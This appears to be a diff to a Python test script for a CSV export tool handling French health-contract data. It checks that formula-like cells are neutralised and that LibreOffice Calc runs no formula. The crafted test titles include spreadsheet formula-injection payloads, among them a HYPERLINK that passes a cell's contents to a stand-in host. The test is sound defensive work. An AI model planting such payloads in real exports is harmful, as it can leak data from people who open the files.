@@ -6,7 +6,8 @@
 Every table is read back with Python's csv module, as a spreadsheet or a
 script of a funder would, and compared with the contract read independently
 with PyYAML (through tests/oracle.py's loader, which resolves scalars the
-way cls-format(5) says): rows, columns, cells, sums of money per financeur.
+way cls-format(5) says): rows, columns, cells, sums of money per financeur;
+and opened by LibreOffice Calc, which must find no formula in them.
 The rules checked are those of cls-export(1).  Prints one line per failure
 and exits 1, or prints how many checks passed and exits 0.
 """
@@ -67,15 +68,30 @@ def export(args, what, status=0, **kw):
     return read(p.stdout, **kw)
 
 
+# What starts a formula, and the full-width signs of East Asian input
+# (U+FF1D, U+FF0B, U+FF0D, U+FF20).
+FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"
+
+
+def risky(text):
+    """Whether cls-export(1), Formula injection, has the text neutralised:
+    it starts with a tab, CR or LF, or with one of FORMULA after any
+    spaces and tabs."""
+    if not text:
+        return False
+    if text[0] in "\t\r\n":
+        return True
+    rest = text.lstrip(" \t")
+    return bool(rest) and rest[0] in FORMULA
+
+
 def cell(text):
     """A text as a spreadsheet must receive it: neutralised when it starts
     like a formula (cls-export(1), Formula injection)."""
     if text is None:
         return ""
     text = str(text)
-    if text and text[0] in "=+-@\t\r\n":
-        return "'" + text
-    return text
+    return "'" + text if risky(text) else text
 
 
 def joined(items):
@@ -88,7 +104,9 @@ def num(s):
 
 def contract(root):
     c, fiches = oracle.load_contract(root)
-    periode = (c["periode"]["debut"], c["periode"]["fin"])
+    # the periode in force (oracle.py): prolonged by the latest avenant
+    # that gives a fin
+    periode = oracle.Oracle(root, None).periode
     for f in fiches:
         f["__years__"] = oracle.fiche_years(f, periode)
     fiches.sort(key=lambda f: oracle.natural_key(oracle.ident(f["id"])))
@@ -131,38 +149,82 @@ def check_fiches(root):
             check(r["statut"] == suivi[last]["statut"], w + ": statut")
 
 
+def entries(root):
+    """id(financement) -> the financeur it names (oracle.py: the entry of
+    the directory of cls.yaml, or the names that are one financeur), as a
+    dict with its nom and sigle."""
+    o = oracle.Oracle(root, None)
+    by_file = {}
+    for f in o.fiches:
+        for x in f.get("financements") or []:
+            by_file[(f["__fichier__"], x.get("financeur"), x.get("annee"),
+                     x.get("montant"), x.get("statut"))] = o.fin_of[id(x)]
+    return by_file
+
+
+def entry_of(by_file, f, x):
+    return by_file[(f["__fichier__"], x.get("financeur"), x.get("annee"),
+                    x.get("montant"), x.get("statut"))]
+
+
 def check_financements(root):
     c, fiches, periode = contract(root)
+    by_file = entries(root)
     rows, head = export(["financements", root], "financements " + root)
     check(head == ["contrat", "axe", "objectif", "fiche", "titre",
-                   "financeur", "annee", "montant", "statut", "note"],
+                   "financeur", "annee", "montant", "statut", "note",
+                   "financeur_sigle", "financeur_ecrit"],
           "financements: header %s" % head)
-    want = [(oracle.ident(f["id"]), x["financeur"],
-             x.get("annee"), x.get("montant"), x.get("statut", "prevu"))
+    # the financeur as the directory (or the group) names it, and as the
+    # fiche writes it
+    want = [(oracle.ident(f["id"]), entry_of(by_file, f, x)["nom"],
+             x.get("annee"), x.get("montant"), x.get("statut", "prevu"),
+             entry_of(by_file, f, x)["sigle"] or "", x["financeur"])
             for f in fiches for x in (f.get("financements") or [])]
     got = [(r["fiche"], r["financeur"], int(r["annee"]) if r["annee"]
-            else None, num(r["montant"]), r["statut"]) for r in rows]
+            else None, num(r["montant"]), r["statut"], r["financeur_sigle"],
+            r["financeur_ecrit"]) for r in rows]
     check(got == want, "financements %s: rows differ:\n  %s\n  %s" % (
-        root, got[:3], want[:3]))
-    # the sums a funder makes, per financeur, against a hand count
+        root, [g for g in got if g not in want][:3],
+        [w for w in want if w not in got][:3]))
+    # the sums a funder makes, per financeur, against a hand count: each
+    # financeur once, however the fiches write it
     by = collections.defaultdict(float)
+    written = collections.defaultdict(set)
     for f in fiches:
         for x in f.get("financements") or []:
-            by[x["financeur"]] += x.get("montant") or 0
+            e = entry_of(by_file, f, x)
+            by[e["nom"]] += x.get("montant") or 0
+            written[e["nom"]].add(x["financeur"])
+            if e["sigle"]:
+                written[e["nom"]].add(e["sigle"])
     sums = collections.defaultdict(float)
     for r in rows:
         sums[r["financeur"]] += num(r["montant"]) or 0
     check(dict(sums) == dict(by), "financements %s: sums %s != %s" % (
         root, dict(sums), dict(by)))
-    # --financeur, written another way, keeps that funder's rows only
+    # the fiches table names them the same way, each once per fiche
+    frows, _ = export(["fiches", root], "fiches " + root)
+    for r, f in zip(frows, fiches):
+        names = []
+        for x in f.get("financements") or []:
+            n = entry_of(by_file, f, x)["nom"]
+            if n not in names:
+                names.append(n)
+        check(r["financeurs"] == joined(names), "fiches %s %s: financeurs "
+              "%r != %r" % (root, r["fiche"], r["financeurs"],
+                            joined(names)))
+    # --financeur, by any name of the financeur (its sigle, each way the
+    # fiches write it, upper or lower case), keeps its rows, all of them
     for name, total in by.items():
-        other = name.upper() if name != name.upper() else name.lower()
-        rs, _ = export(["financements", "--financeur=" + other, root],
-                       "--financeur=" + other)
-        check(rs and all(r["financeur"] == name for r in rs),
-              "--financeur=%s: rows of others" % other)
-        check(abs(sum(num(r["montant"]) or 0 for r in rs) - total) < 1e-6,
-              "--financeur=%s: sum" % other)
+        for w in sorted(written[name]):
+            other = w.upper() if w != w.upper() else w.lower()
+            rs, _ = export(["financements", "--financeur=" + other, root],
+                           "--financeur=" + other)
+            check(rs and all(r["financeur"] == name for r in rs),
+                  "--financeur=%s: rows of others" % other)
+            check(abs(sum(num(r["montant"]) or 0 for r in rs) - total)
+                  < 1e-6, "--financeur=%s: sum" % other)
     # --year: the year's financements and those of the whole contract
     for y in range(periode[0], periode[1] + 1):
         rs, _ = export(["financements", "--year=%d" % y, root], "--year")
@@ -170,6 +232,25 @@ def check_financements(root):
               sorted((w[0], w[1], "" if w[2] is None else str(w[2]))
                      for w in want if w[2] in (None, y)),
               "financements --year=%d %s" % (y, root))
+
+
+def referents(f):
+    """The referents cell of a fiche: each référent "nom (fonction,
+    structure) — courriel, telephone" with the parts it has, joined by
+    " ; " (cls-export(1))."""
+    out = []
+    for r in f.get("referents") or []:
+        t = r["nom"]
+        inner = ", ".join(x for x in (r.get("fonction"), r.get("structure"))
+                          if x)
+        if inner:
+            t += " (%s)" % inner
+        contact = ", ".join(x for x in (r.get("courriel"),
+                                        r.get("telephone")) if x)
+        if contact:
+            t += " \u2014 " + contact
+        out.append(t)
+    return cell(" ; ".join(out))
 
 
 def check_indicateurs(root):
@@ -187,8 +268,12 @@ def check_indicateurs(root):
             for y in sorted(years):
                 v = (ind.get("valeurs") or {}).get(y)
                 t = oracle.target_for(ind, y, f["__years__"])
+                base = ind.get("base") if isinstance(ind.get("base"),
+                                                     dict) else {}
                 want.append((oracle.ident(f["id"]), oracle.ident(ind["id"]),
-                             y, v, t, ind.get("unite")))
+                             y, v, t, ind.get("unite"), base.get("annee"),
+                             base.get("valeur"), ind.get("cible_totale"),
+                             referents(f)))
     got = []
     for r in rows:
         v = r["valeur"]
@@ -201,8 +286,14 @@ def check_indicateurs(root):
             t = ("num", num(r["cible"]))
         elif r["cible_min"] != "" or r["cible_max"] != "":
             t = ("range", num(r["cible_min"]), num(r["cible_max"]))
+        bv = r["base_valeur"]
+        try:
+            bv = num(bv)
+        except ValueError:
+            pass
         got.append((r["fiche"], r["indicateur"], int(r["annee"]), v, t,
-                    r["unite"] or None))
+                    r["unite"] or None, num(r["base_annee"]), bv,
+                    num(r["cible_totale"]), r["referents"]))
     check(got == want, "indicateurs %s: rows differ:\n  %s\n  %s" % (
         root, [g for g in got if g not in want][:3],
         [w for w in want if w not in got][:3]))
@@ -231,6 +322,28 @@ for root in EXAMPLES:
     check_indicateurs(root)
     check_suivi(root)
 
+# The contract prolonged by avenant: référents, a baseline, a
+# cible_totale, and a financeur written three ways without a directory.
+PROLONGE = os.path.join(TOP, "tests", "fixtures", "prolonge")
+check_financements(PROLONGE)
+check_indicateurs(PROLONGE)
+rows, _ = export(["indicateurs", PROLONGE], "indicateurs prolonge")
+check([r["referents"] for r in rows if r["fiche"] == "1"][:1] ==
+      ["Camille Martin (coordinatrice, Communauté de communes du Val "
+       "d'Essai) \u2014 c.martin@exemple.fr, 04 00 00 00 00 ; Dominique Roux "
+       "(ARS)"], "prolonge: the referents cell")
+check({(r["indicateur"], r["cible_totale"], r["base_annee"],
+        r["base_valeur"]) for r in rows if r["fiche"] == "2"} ==
+      {("jeunes", "400", "", ""),
+       ("ressenti", "", "2015", "Peu d'actions connues")},
+      "prolonge: cible_totale and base")
+rows, _ = export(["financements", "--financeur=ars", PROLONGE], "ars")
+check(len(rows) == 3 and {r["financeur"] for r in rows} == {"ARS"} and
+      {r["financeur_ecrit"] for r in rows} ==
+      {"ARS", "Agence régionale de santé", "ars"},
+      "prolonge: --financeur=ars keeps the three ways of writing it: %s" %
+      [r["financeur_ecrit"] for r in rows])
+
 # ------------------------------------------------------- a crafted contract
 
 tmp = tempfile.mkdtemp(prefix="cls-csv.")
@@ -248,7 +361,12 @@ axes:
 """)
 TITLES = ['=HYPERLINK("http://x.example/?q="&A1;"clic")', "+1", "-2+3",
           "@SUM(A1:A9)", "\tavec tabulation", "\rretour chariot",
-          "\nsaut de ligne", "Titre ordinaire, avec ; des \"séparateurs\""]
+          "\nsaut de ligne", "  =1+1", " \t@SUM(A1:A9)", "   -2+3",
+          "\uff1dHYPERLINK(\"http://x.example\")", "\uff0b1", "\uff0d1",
+          "\uff20SUM(A1)", "  \uff1d1+1",
+          # look like formulas but are none: left as they are
+          "\u3000=1+1", "\u00a0=1+1", "a =1", "1+1",
+          "Titre ordinaire, avec ; des \"séparateurs\""]
 DESCRIPTION = ("Ligne un, avec \"guillemets\" ; et séparateurs\n"
                "\n  ligne indentée\r\nfin Windows\n")
 for i, title in enumerate(TITLES, 1):
@@ -273,6 +391,10 @@ indicateurs:
     libelle: Avis
     type: resultat
     valeurs: {2023: "=1+1", 2024: "bon"}
+  - id: note
+    libelle: "  =Note"
+    type: processus
+    valeurs: {2023: "  =2", 2024: "\uff20x", 2025: " -3"}
 suivi:
   2023:
     statut: en_cours
@@ -287,8 +409,9 @@ check(p.returncode == 0, "the crafted contract is invalid: %s" %
 rows, _ = export(["fiches", PIEGE], "fiches piege")
 check([r["titre"] for r in rows] == [cell(t) for t in TITLES],
       "injection: titres %r" % [r["titre"] for r in rows])
-check(all(r["titre"].startswith("'") for r in rows[:-1]),
-      "injection: a risky titre without '")
+check(all(r["titre"].startswith("'") == risky(t)
+          for r, t in zip(rows, TITLES)) and risky(TITLES[0]) and
+      not risky(TITLES[-2]), "injection: a risky titre without '")
 check(rows[-1]["titre"] == TITLES[-1], "injection: ordinary titre changed")
 check([r["porteurs"] for r in rows] ==
       [cell(t + " ; Porteur B") for t in TITLES], "injection: porteurs")
@@ -308,6 +431,147 @@ check(sol and all(r["valeur"] == "-2.5" and r["cible_min"] == "-5" and
       "negative numbers must stay numbers: %s" % sol[:1])
 check(avis and all(r["valeur"] == "'=1+1" for r in avis),
       "a text valeur =1+1 must arrive as text: %s" % avis[:1])
+
+# ------------------------------------------- what LibreOffice Calc runs
+# The tables as a spreadsheet opens them: LibreOffice Calc converts them
+# (soffice --headless, in a profile of its own) to xlsx, whose cells are
+# read back: no cell of any table may be a formula, every neutralised text
+# arrives as written after its "'", numbers stay numbers.  The same rows
+# written without the "'" are the control: Calc runs "=" as a formula,
+# and with its "Trim spaces" option also an unquoted "  =1+1", which is
+# why blanks before a formula are neutralised too.
+LO = os.path.join(tmp, "lo")
+os.makedirs(LO)
+# filter options: separator, quote, UTF-8 (76), first line, column
+# formats, language (1036: French, whose decimal comma --excel writes),
+# quoted as text, detect special numbers, three export options, trim
+CALC_DEFAULT = "44,34,76,1,,1033"
+CALC_EXCEL = "59,34,76,1,,1036"
+CALC_TRIM = "44,34,76,1,,1033,false,false,false,false,true"
+
+
+def calc(paths, options):
+    """The cells of each CSV file as LibreOffice Calc reads it with the
+    given filter options: {path: {(row, column): (type, formula, text)}},
+    rows and columns from 0."""
+    import xml.etree.ElementTree as ET
+    import zipfile
+    out = os.path.join(LO, "out-%d" % len(os.listdir(LO)))
+    p = subprocess.run(
+        ["timeout", "300", "soffice",
+         "-env:UserInstallation=file://" + os.path.join(LO, "profile"),
+         "--headless", "--infilter=CSV:" + options, "--convert-to", "xlsx",
+         "--outdir", out] + paths, stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT)
+    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    res = {}
+    for path in paths:
+        x = os.path.join(out, os.path.basename(path)[:-4] + ".xlsx")
+        if not check(os.path.exists(x), "soffice did not convert %s: %s" %
+                     (path, p.stdout.decode(errors="replace")[-300:])):
+            res[path] = {}
+            continue
+        z = zipfile.ZipFile(x)
+        strings = []
+        if "xl/sharedStrings.xml" in z.namelist():
+            for si in ET.fromstring(z.read("xl/sharedStrings.xml")):
+                strings.append("".join(t.text or "" for t in
+                                       si.iter("{%s}t" % ns["m"])))
+        cells = {}
+        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
+        for c in sheet.iter("{%s}c" % ns["m"]):
+            ref = c.get("r")
+            col = 0
+            for ch in ref.rstrip("0123456789"):
+                col = col * 26 + ord(ch) - 64
+            row = int(ref[len(ref.rstrip("0123456789")):]) - 1
+            t = c.get("t", "n")
+            f = c.find("m:f", ns)
+            v = c.find("m:v", ns)
+            text = v.text if v is not None else None
+            if t == "s" and text is not None:
+                text = strings[int(text)]
+            elif t == "inlineStr":
+                text = "".join(x.text or "" for x in c.iter("{%s}t" %
+                                                           ns["m"]))
+            cells[(row, col - 1)] = (t, f.text if f is not None else None,
+                                     text)
+        res[path] = cells
+    return res
+
+
+def calc_table(cells, column):
+    """The cells of the named column below the header, by row."""
+    head = {c: v[2] for (r, c), v in cells.items() if r == 0}
+    col = [c for c, name in head.items() if name == column]
+    if not col:
+        return []
+    rows = max(r for r, c in cells) if cells else 0
+    return [cells.get((r, col[0]), ("", None, "")) for r in
+            range(1, rows + 1)]
+
+
+def lf(text):
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+files = {}
+for table in ("fiches", "indicateurs", "financements", "suivi"):
+    for dialect, args in (("rfc", []), ("excel", ["--excel"])):
+        path = os.path.join(LO, "%s-%s.csv" % (table, dialect))
+        p = run(["export", table] + args + ["-o", path, PIEGE])
+        check(p.returncode == 0, "export %s %s for Calc" % (table, dialect))
+        files[(table, dialect)] = path
+# the controls: the fiches without their "'", every text quoted; and
+# unquoted, to be read with Calc's "Trim spaces"
+rows, head = read(open(files[("fiches", "rfc")], "rb").read())
+bare = [[r[h][1:] if r[h].startswith("'") else r[h] for h in head]
+        for r in rows]
+control = os.path.join(LO, "control.csv")
+with open(control, "w", encoding="utf-8", newline="") as f:
+    csv.writer(f, quoting=csv.QUOTE_ALL).writerows([head] + bare)
+trim_control = os.path.join(LO, "control-trim.csv")
+with open(trim_control, "w", encoding="utf-8", newline="") as f:
+    f.write("titre\n" + "\n".join(
+        t for t in TITLES if not any(c in t for c in "\r\n,\"")) + "\n")
+default = calc([p for (t, d), p in files.items() if d == "rfc"] +
+               [control], CALC_DEFAULT)
+excel = calc([p for (t, d), p in files.items() if d == "excel"],
+             CALC_EXCEL)
+trimmed = calc([files[("fiches", "rfc")], trim_control], CALC_TRIM)
+for (table, dialect), path in files.items():
+    cells = (default if dialect == "rfc" else excel)[path]
+    formulas = [v for v in cells.values() if v[1] is not None]
+    check(cells and not formulas, "Calc runs formulas of %s %s: %s" %
+          (table, dialect, formulas[:3]))
+    if table == "fiches":
+        got = [lf(v[2] or "") for v in calc_table(cells, "titre")]
+        check(got == [lf(cell(t)) for t in TITLES],
+              "Calc reads the titres of %s as %r" % (dialect, got))
+    if table == "indicateurs":
+        sol = [v for v in calc_table(cells, "valeur") if v[0] == "n"]
+        check(sol and all(float(v[2]) in (-2.5, 1234567.125) for v in sol),
+              "Calc reads the numbers of %s as %r" % (dialect, sol))
+check(not [v for v in trimmed[files[("fiches", "rfc")]].values()
+           if v[1] is not None], "Calc with Trim spaces runs a formula")
+ctl = [v[1] for v in calc_table(default[control], "titre")]
+check(ctl[0] and "HYPERLINK" in ctl[0] and ctl.count(None) == len(ctl) - 1,
+      "the control: Calc runs only the leading =, and only there: %r" % ctl)
+ctl = calc_table(trimmed[trim_control], "titre")
+check(ctl and [t for t, v in zip([t for t in TITLES if not any(
+    c in t for c in "\r\n,\"")], ctl) if v[1] is not None] ==
+      ["  =1+1"],
+      "the control: Calc trimming spaces runs %r" % ctl)
+
+# cls import reads back what cls export neutralised, without the "'"
+RT = os.path.join(tmp, "roundtrip")
+shutil.copytree(PIEGE, RT)
+p = run(["export", "indicateurs", "--excel", "-o",
+         os.path.join(tmp, "rt.csv"), RT])
+p = run(["import", "--dry-run", os.path.join(tmp, "rt.csv")], cwd=RT)
+check(p.returncode == 0 and p.stdout.startswith(b"would write 0 values") and
+      b" unchanged" in p.stdout, "import of an export: %r %r" %
+      (p.stdout[:300], p.stderr[:300]))
 
 # --financeur: case and accents do not matter; an unknown one is exit 2
 for name, want in (("cpam", "CPAM"), ("departement", "Département"),
@@ -353,7 +617,7 @@ lines = p.stdout.split(b"\n")
 check(p.returncode == 0 and len(lines) > 10 and lines[-1] == b"" and
       all(x.endswith(b"\r") and b"\r" not in x[:-1] for x in lines[:-1]),
       "excel: every line must end with CRLF")
-check(all(x.count(b";") >= 9 for x in lines[:-1]), "excel: separators")
+check(all(x.count(b";") >= 11 for x in lines[:-1]), "excel: separators")
 p = run(["export", "financements", "--excel", PIEGE])
 b = p.stdout
 check(p.returncode == 0 and b.startswith(b"\xef\xbb\xbf"), "excel: BOM")
@@ -361,7 +625,8 @@ ends, last = record_ends(b)
 check(len(ends) == 1 + 3 * len(TITLES) and all(ends) and last,
       "excel: a record not ended by CRLF")
 check(lines[0] == b'\xef\xbb\xbf"contrat";"axe";"objectif";"fiche";"titre";'
-      b'"financeur";"annee";"montant";"statut";"note"\r', "excel: header")
+      b'"financeur";"annee";"montant";"statut";"note";"financeur_sigle";'
+      b'"financeur_ecrit"\r', "excel: header")
 check(b";2023;1000,25;" in b and b";;2000;" in b and b";2024;0,1;" in b,
       "excel: decimal comma, bare numbers")
 check(b"." not in b.replace(b"http://x.example", b""), "excel: a '.' left")
